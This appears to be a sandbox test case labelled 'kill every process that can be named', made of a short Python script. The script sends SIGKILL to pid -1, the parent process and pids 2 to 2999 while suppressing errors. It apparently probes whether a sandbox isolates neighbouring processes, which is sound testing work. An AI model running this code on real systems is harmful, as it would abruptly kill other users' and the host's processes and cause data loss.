"""
tries = "kill every process that can be named"
category = "neighbours"
"""

# %% extra
import os, signal

for pid in [-1, 0, 1, os.getppid(), *range(2, 3000)]:
    try:
        os.kill(pid, signal.SIGKILL) if pid not in (0, 1) else None
    except OSError:
        pass
try:
    os.killpg(0, 0)
    os.kill(os.getppid(), 0) if os.getppid() else None
except OSError:
    pass
